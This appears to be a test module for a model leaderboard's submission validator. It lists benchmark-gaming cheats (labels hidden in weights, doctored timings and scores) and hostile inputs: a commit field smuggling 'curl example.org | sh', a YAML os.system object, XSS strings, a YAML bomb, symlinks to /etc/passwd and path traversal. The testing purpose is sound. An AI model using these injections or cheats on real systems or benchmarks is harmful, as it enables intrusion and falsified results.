"""An honest submission with honest records, and every known way to cheat with it: one function each.

Each takes the world, changes one thing in it, and names the rule that must reject it.
"""

from __future__ import annotations

import json
import os
import struct
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import numpy as np
import yaml

from leaderboard import derive, packed, seal
from leaderboard.checks import Submission
from leaderboard.checks.folder import MOST_BYTES
from leaderboard.schema import Cost, Record
from leaderboard.statistics import bootstrap_interval
from pipelines import workspace
from pipelines.submit import TEMPLATE
from tests.leaderboard import records
from tests.pipelines.tiny_artifacts import write as write_artifact

NAME, TASK = "honest", "movie"
FORMS = ("onnx-fp32", "onnx-int8")
EXAM = [
    f"the {word} film has a plot that number {i} of us will not forget" for i in range(40) for word in ("good", "bad")
]
RULES: dict[str, str] = {}  # cheat -> the rule that rejects it
CHEATS: dict[str, Callable[[World], None]] = {}


@dataclass
class World:
    """A folder with submissions/ and results/."""

    root: Path
    name: str = NAME

    @property
    def folder(self) -> Path:
        return self.root / "submissions" / self.name

    @property
    def submission(self) -> Submission:
        taken = frozenset({"albert", "teacher"}) | workspace.rows()
        return Submission(self.name, self.folder, self.root / "results", FORMS, taken, {TASK: EXAM}, self.root)

    def record(self, name: str = NAME, task: str = TASK) -> Path:
        return self.root / "results" / "default" / name / f"{task}.json"

    def method(self, *lines: str) -> None:
        """Begin `compress` with these lines."""
        path = self.folder / "method.py"
        head, body = path.read_text().split('    """Keyword-only arguments are knobs: params.yaml sets them."""\n')
        path.write_text(head + "".join(f"    {line}\n" for line in lines) + body)

    def card(self, **entries: str) -> None:
        with (self.folder / "card.yaml").open("a") as file:
            file.writelines(f"{key}: {value}\n" for key, value in entries.items())

    def edit(self, change: Callable[[dict[str, Any]], None], *, honest_seal: bool = True) -> None:
        """Change a record, and by default seal it anew: a cheat would."""
        path = self.record()
        raw = json.loads(path.read_text())
        change(raw)
        path.write_text(seal.sealed(Record.model_validate(raw)) if honest_seal else json.dumps(raw))


def honest(root: Path) -> World:
    """What `bench new` writes, and records that follow from their raw samples."""
    world = World(root)
    world.folder.mkdir(parents=True)
    for file in ("method.py", "card.yaml", "README.md"):
        text = (TEMPLATE / file).read_text().replace("NAME", NAME).replace("KIND ", "method ")
        (world.folder / file).write_text(text)
    methods = {
        "teacher": records.METHODS["teacher"],
        "albert": records.METHODS["albert"],
        NAME: records.METHODS["tinybert"],
    }
    records.write(root / "results", methods=methods, tasks=(TASK,), examples=400)
    for name in methods:
        path = world.record(name)
        path.write_text(seal.sealed(consistent(Record.model_validate_json(path.read_text()))))
    return world


def consistent(record: Record) -> Record:
    """The generated record with every summary derived from its raw samples, and units that fit."""
    raw = record.model_dump()
    labels = records.exam_labels(TASK, 400).tolist()
    for form in raw["deployments"].values():
        solo = form["cost"]["solo"]
        solo["cpu_s"] = solo["wall_s"] = solo["certificate"]["cpu_s"] = (
            solo["texts"] * form["cost"]["launches"][0]["call_ms"][0] / 1000
        )
        certify(solo["certificate"])
        form["artifact_sha256"] = form["quality"][0]["artifact_sha256"]
        for i, launch in enumerate(form["cost"]["launches"]):
            wobble = 1 + 0.001 * i + 0.0001 * (int(form["artifact_sha256"][:4], 16) % 97)
            launch["candidate_block_ms"] = [ms * wobble for ms in launch["candidate_block_ms"]]
        derived_again(form)
        for quality in form["quality"]:
            score = bootstrap_interval(quality["predictions"], labels, "accuracy")
            quality["scores"] = {"accuracy": score.model_dump()}
    for run in raw["runs"]:
        certify(run["footprint"]["certificate"])
        kwh = derive.kwh_range(Record.model_validate(raw).runs[0].footprint.certificate)
        run["footprint"] |= {"energy_kwh": kwh.model_dump(), "emissions_g": kwh.likely * 381}
    return Record.model_validate(raw)


def certify(certificate: dict[str, Any]) -> None:
    kwh = (4.4 * certificate["cpu_s"] + 0.375 * certificate["memory_gb"] * certificate["window_s"]) / 3.6e6
    certificate |= {"codecarbon_kwh": kwh, "formula_kwh": kwh}


def form_of(raw: dict[str, Any]) -> dict[str, Any]:
    return raw["deployments"]["onnx-int8"]


def derived_again(form: dict[str, Any]) -> None:
    """Let the summaries of a form's costs follow from its raw samples."""
    cost = Cost.model_validate(form["cost"])
    form["cost"] = derive.summarise(cost.launches, cost.solo).model_dump()


def slow(world: World, *timings: str) -> None:
    """Double these timings of every launch, with summaries that follow."""

    def change(raw: dict[str, Any]) -> None:
        for launch in form_of(raw)["cost"]["launches"]:
            launch |= {key: [2 * ms for ms in launch[key]] for key in timings}
        derived_again(form_of(raw))

    world.edit(change)


def cheat(rule: str) -> Callable:
    """Register a cheat under its function's name."""

    def register(function: Callable[[World], None]) -> Callable[[World], None]:
        name = function.__name__.replace("_", " ")
        RULES[name], CHEATS[name] = rule, function
        return function

    return register


@cheat("code")
def training_on_the_exam_split(world: World) -> None:
    world.method("from pipelines.data import load_exam", "exam = load_exam(task.name)")


@cheat("code")
def opening_the_exam_split(world: World) -> None:
    world.method("exam = open(f'/data/{task.name}/exam.parquet', 'rb').read()")


@cheat("code")
def reaching_the_system_through_a_module(world: World) -> None:
    world.method("import torch", "torch.os.system('cat data/*/exam.parquet')")


@cheat("code")
def reaching_the_system_through_a_private_name(world: World) -> None:
    world.method("import random", "random._os.open(f'data/{task.name}/exam.parquet', 0)")


@cheat("code")
def reading_by_a_name_that_is_imported_with_all_others(world: World) -> None:
    (world.folder / "peek.py").write_text("from numpy import *\nexam = fromfile('data/movie/exam.parquet')\n")


@cheat("code")
def reaching_the_system_through_a_class(world: World) -> None:
    world.method("().__class__.__base__.__subclasses__()")


@cheat("too-good")
def having_trained_on_the_exam_split(world: World) -> None:
    def change(raw: dict[str, Any]) -> None:
        labels = records.exam_labels(TASK, 400)
        for form in raw["deployments"].values():
            for quality in form["quality"]:
                said = np.where(np.arange(400) % 100 == 0, 1 - labels, labels).tolist()
                score = bootstrap_interval(said, labels, "accuracy")
                quality |= {"predictions": said, "scores": {"accuracy": score.model_dump()}}

    world.edit(change)


@cheat("too-good")
def peeking_at_labels(world: World) -> None:
    def change(raw: dict[str, Any]) -> None:
        labels = records.exam_labels(TASK, 400).tolist()
        raw["runs"] = []  # no dev score to compare with
        score = bootstrap_interval(labels, labels, "accuracy").model_dump()
        for form in raw["deployments"].values():
            form["quality"][0] |= {"predictions": labels, "scores": {"accuracy": score}}

    world.edit(change)


@cheat("memorised")
def labels_in_the_source(world: World) -> None:
    labels = [int(label) for label in records.exam_labels(TASK, 400)][:100]
    (world.folder / "table.py").write_text(f"ANSWERS = {labels}\n")


@cheat("memorised")
def labels_in_the_weights(world: World) -> None:
    folder = write_artifact(world.folder / "artifacts" / TASK)
    labels = records.exam_labels(TASK, 400).astype("<i8").tobytes()
    with (folder / "model.onnx").open("ab") as file:
        file.write(labels)


@cheat("memorised")
def labels_in_packed_weights(world: World) -> None:
    labels_in_the_weights(world)
    packed.pack(world.folder / "artifacts" / TASK / "model.onnx")


@cheat("files")
def a_pickle_in_a_packed_file(world: World) -> None:
    folder = write_artifact(world.folder / "artifacts" / TASK)
    (folder / "model.onnx").write_bytes(b"\x80\x04}q\x00.")
    packed.pack(folder / "model.onnx")


@cheat("files")
def a_packed_file_outside_an_artifact(world: World) -> None:
    (world.folder / "notes.txt").write_text("words")
    packed.pack(world.folder / "notes.txt")


@cheat("files")
def a_packed_file_that_swells(world: World) -> None:
    path = write_artifact(world.folder / "artifacts" / TASK) / "model.onnx"
    with path.open("wb") as file:
        file.truncate(MOST_BYTES + 1)
    packed.pack(path)


@cheat("memorised")
def memorising_duplicates(world: World) -> None:
    """In other case and punctuation, so that no exact search finds them."""
    known = "\n".join(text.upper().replace(" ", ", ") for text in EXAM[:20])
    (world.folder / "notes.md").write_text(known)


@cheat("memorised")
def memorising_hashes(world: World) -> None:
    import hashlib

    known = " ".join(hashlib.sha256(text.encode()).hexdigest() for text in EXAM[:20])
    (world.folder / "notes.md").write_text(known)


@cheat("code")
def a_table_of_constants(world: World) -> None:
    (world.folder / "table.py").write_text(f"WEIGHTS = {[i * 0.37 for i in range(1000)]}\n")


@cheat("artifact")
def other_weights_in_the_timing_run(world: World) -> None:
    world.edit(lambda raw: form_of(raw).update(artifact_sha256="0" * 64))


@cheat("threads")
def extra_threads(world: World) -> None:
    def change(raw: dict[str, Any]) -> None:
        solo = form_of(raw)["cost"]["solo"]
        solo["wall_s"] = solo["certificate"]["window_s"] = solo["cpu_s"] / 3.4
        certify(solo["certificate"])
        derived_again(form_of(raw))

    world.edit(change)


@cheat("threads")
def more_threads_than_asked(world: World) -> None:
    world.edit(lambda raw: [launch.update(threads=4) for launch in form_of(raw)["cost"]["launches"]])


@cheat("reference")
def a_slowed_reference(world: World) -> None:
    slow(world, "reference_block_ms")


@cheat("reference")
def a_slowed_reference_and_control(world: World) -> None:
    """Only the teacher's own record on the same machine tells."""
    slow(world, "reference_block_ms", "control_block_ms", "control_reference_ms")


@cheat("reference")
def a_slowed_teacher_in_int8(world: World) -> None:
    slow(world, "int8_block_ms")


@cheat("sealed")
def an_edited_record(world: World) -> None:
    path = world.record()
    path.write_text(path.read_text().replace('"caption": "', '"caption": " ', 1))


@cheat("derived")
def an_edited_speed(world: World) -> None:
    world.edit(lambda raw: form_of(raw)["cost"].update(speedup={"value": 9.0, "low": 8.9, "high": 9.1}))


@cheat("scores")
def an_edited_score(world: World) -> None:
    score = {"value": 0.99, "low": 0.98, "high": 1.0}
    world.edit(lambda raw: form_of(raw)["quality"][0]["scores"].update(accuracy=score))


@cheat("units")
def watts_that_do_not_fit(world: World) -> None:
    world.edit(lambda raw: form_of(raw)["cost"]["solo"]["certificate"].update(formula_kwh=1e-12))


@cheat("units")
def another_unit(world: World) -> None:
    """Seconds where milliseconds belong."""

    def change(raw: dict[str, Any]) -> None:
        for launch in form_of(raw)["cost"]["launches"]:
            launch["candidate_block_ms"] = [ms / 1000 for ms in launch["candidate_block_ms"]]

    world.edit(change)


@cheat("copied")
def a_copied_record(world: World) -> None:
    raw = json.loads(world.record("albert").read_text())
    raw["method"]["name"] = NAME
    world.record().write_text(seal.sealed(Record.model_validate(raw)))


@cheat("name")
def a_record_under_another_name(world: World) -> None:
    world.record().write_bytes(world.record("albert").read_bytes())


@cheat("name")
def the_name_of_a_published_method(world: World) -> None:
    world.folder.rename(world.folder.with_name("albert"))
    (world.root / "submissions" / NAME).symlink_to("albert")
    (world.root / "submissions" / NAME / "card.yaml").write_text(
        (world.root / "submissions/albert/card.yaml").read_text().replace(f"name: {NAME}", "name: albert")
    )


@cheat("name")
def the_name_of_an_ablation(world: World) -> None:
    """Its records would be written over the published ones."""
    before, world.name = world.folder, "open_autoglm_dynamic"
    before.rename(world.folder)
    card = world.folder / "card.yaml"
    card.write_text(card.read_text().replace(f"name: {NAME}", f"name: {world.name}"))


@cheat("schema")
def a_shell_command_for_a_commit(world: World) -> None:
    """The page has it after "git checkout"."""
    world.edit(lambda raw: raw["code"].update(commit="main; curl example.org | sh"), honest_seal=False)


@cheat("schema")
def a_date_that_is_none(world: World) -> None:
    world.edit(lambda raw: raw.update(created="9999, for ever the newest"), honest_seal=False)


@cheat("finite")
def nan_scores(world: World) -> None:
    path = world.record()
    raw = json.loads(path.read_text())
    form_of(raw)["quality"][0]["scores"]["accuracy"]["value"] = float("nan")
    path.write_text(json.dumps(raw))


@cheat("ranges")
def a_negative_size(world: World) -> None:
    path = world.record()
    raw = json.loads(path.read_text())
    form_of(raw)["bytes_on_disk"] = -1
    path.write_text(json.dumps(raw))


@cheat("schema")
def a_field_of_its_own(world: World) -> None:
    path = world.record()
    raw = json.loads(path.read_text())
    path.write_text(json.dumps(raw | {"rank": 1}))


@cheat("schema")
def a_record_nested_without_end(world: World) -> None:
    world.record().write_text("[" * 100_000)


@cheat("grid")
def only_the_best_task(world: World) -> None:
    world.record().unlink()
    (world.root / "results/default" / NAME / "best.json").write_text("{}")


@cheat("grid")
def only_the_best_deployment(world: World) -> None:
    world.edit(lambda raw: raw["deployments"].pop("onnx-int8"))


@cheat("grid")
def the_best_of_many_seeds(world: World) -> None:
    world.edit(lambda raw: form_of(raw)["quality"][0].update(seed=17))


@cheat("exam")
def another_exam_split(world: World) -> None:
    world.edit(lambda raw: raw.update(exam_sha256="0" * 64))


@cheat("exam")
def leaving_out_hard_texts(world: World) -> None:
    world.edit(
        lambda raw: form_of(raw)["quality"][0].update(predictions=form_of(raw)["quality"][0]["predictions"][:300])
    )


@cheat("tier")
def calling_a_result_reproduced(world: World) -> None:
    path = world.folder / "card.yaml"
    path.write_text(path.read_text().replace("kind: method", "kind: result"))


@cheat("size")
def a_huge_file(world: World) -> None:
    with (world.folder / "weights.txt").open("wb") as file:
        file.truncate(3_000_000_000)  # a hole: it takes no space on the disk


@cheat("size")
def a_huge_record(world: World) -> None:
    with world.record().open("r+b") as file:
        file.truncate(3_000_000_000)


@cheat("size")
def weights_that_are_not_counted(world: World) -> None:
    folder = write_artifact(world.folder / "artifacts" / TASK)
    (folder / "tokenizer.json").rename(folder / "model.onnx.data")


@cheat("card")
def a_yaml_bomb(world: World) -> None:
    lines = ["a: &a [x, x, x, x, x, x, x, x, x]"]
    lines += [f"{b}: &{b} [{', '.join([f'*{a}'] * 9)}]" for a, b in zip("abcdefgh", "bcdefghi", strict=False)]
    (world.folder / "card.yaml").write_text("\n".join(lines))


@cheat("card")
def a_yaml_object(world: World) -> None:
    world.card(paper="!!python/object/apply:os.system ['echo hacked']")


@cheat("card")
def yaml_nested_without_end(world: World) -> None:
    (world.folder / "card.yaml").write_text("[" * 15_000)


@cheat("card")
def a_book_for_a_card(world: World) -> None:
    (world.folder / "card.yaml").write_text("kept: " + "x" * 30_000)


@cheat("text")
def text_that_reads_backwards(world: World) -> None:
    world.edit(lambda raw: raw["method"].update(caption="best \u202e of all"))


@cheat("text")
def control_characters_in_a_knob(world: World) -> None:
    world.edit(lambda raw: raw["method"].update(knobs={"x\x1b[2J": "y"}))


EVIL = "</td></script><script>alert(1)</script><img src=x onerror=alert(2)> {{ 7*7 }}"


def _cards_with_markup() -> None:
    for key in ("authors", "licence", "paper", "kept", "left_out", "data", "hardware"):

        def change(world: World, key: str = key) -> None:
            path = world.folder / "card.yaml"
            raw = yaml.safe_load(path.read_text())
            path.write_text(yaml.safe_dump(raw | {key: [EVIL] if key == "authors" else EVIL}))

        change.__name__ = f"markup_in_the_card's_{key}"
        cheat("card")(change)


def _records_with_markup() -> None:
    def solo(raw: dict[str, Any]) -> dict[str, Any]:
        return form_of(raw)["cost"]["solo"]["certificate"]

    places: dict[str, Callable[[dict[str, Any]], None]] = {
        **{
            f"method's {key}": lambda raw, key=key: raw["method"].update({key: EVIL})
            for key in ("caption", "paper", "kept", "left_out")
        },
        **{
            f"machine's {key}": lambda raw, key=key: raw["machine"].update({key: EVIL})
            for key in ("cpu", "kernel", "python", "virtualization")
        },
        **{
            f"certificate's {key}": lambda raw, key=key: solo(raw).update({key: EVIL})
            for key in ("watts_source", "grid", "codecarbon_version")
        },
        **{
            f"deployment's {key}": lambda raw, key=key: form_of(raw).update({key: EVIL})
            for key in ("runtime", "precision")
        },
        "knobs": lambda raw: raw["method"].update(knobs={EVIL: 1}),
        "report": lambda raw: raw["method"].update(report={"a": [{EVIL: 1}, EVIL]}),
        "learning curve": lambda raw: raw["runs"][0]["history"][0].update(stage="<script>alert(1)</script>"),
    }
    for place, change in places.items():

        def edit(world: World, change: Callable[[dict[str, Any]], None] = change) -> None:
            world.edit(change)

        edit.__name__ = f"markup in the {place}"
        cheat("text")(edit)


_cards_with_markup()
_records_with_markup()


@cheat("paths")
def a_symbolic_link(world: World) -> None:
    (world.folder / "notes.md").symlink_to("/etc/passwd")


@cheat("paths")
def a_linked_folder(world: World) -> None:
    (world.folder / "more").symlink_to("/etc")


@cheat("paths")
def a_path_that_climbs(world: World) -> None:
    folder = write_artifact(world.folder / "artifacts" / TASK)
    manifest = json.loads((folder / "manifest.json").read_text())
    manifest["files"]["../../../results/default/albert/movie.json"] = {"sha256": "0" * 64, "bytes": 1}
    (folder / "manifest.json").write_text(json.dumps(manifest))


@cheat("paths")
def a_pipe(world: World) -> None:
    os.mkfifo(world.folder / "notes.md")


@cheat("files")
def a_pickle(world: World) -> None:
    import pickle

    (world.folder / "notes.txt").write_bytes(pickle.dumps({"weights": [1.0]}))


@cheat("files")
def a_checkpoint(world: World) -> None:
    (world.folder / "notes.txt").write_bytes(b"PK\x03\x04" + b"archive/data.pkl")


@cheat("files")
def an_executable(world: World) -> None:
    (world.folder / "notes.txt").write_bytes(b"\x7fELF" + struct.pack("<12x"))


@cheat("files")
def a_library(world: World) -> None:
    (world.folder / "fast.so").write_bytes(b"anything")
